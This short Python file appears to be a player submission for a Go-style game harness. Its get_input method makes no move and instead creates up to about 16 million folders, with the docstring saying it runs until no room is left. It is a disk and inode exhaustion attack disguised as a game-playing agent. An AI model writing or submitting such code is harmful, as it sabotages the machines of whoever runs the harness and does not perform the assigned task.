"""Makes files until there is no room for one more."""

import os


class MyPlayer:
    def get_input(self, go, piece_type):
        for number in range(1 << 24):
            os.mkdir(f"folder{number}")
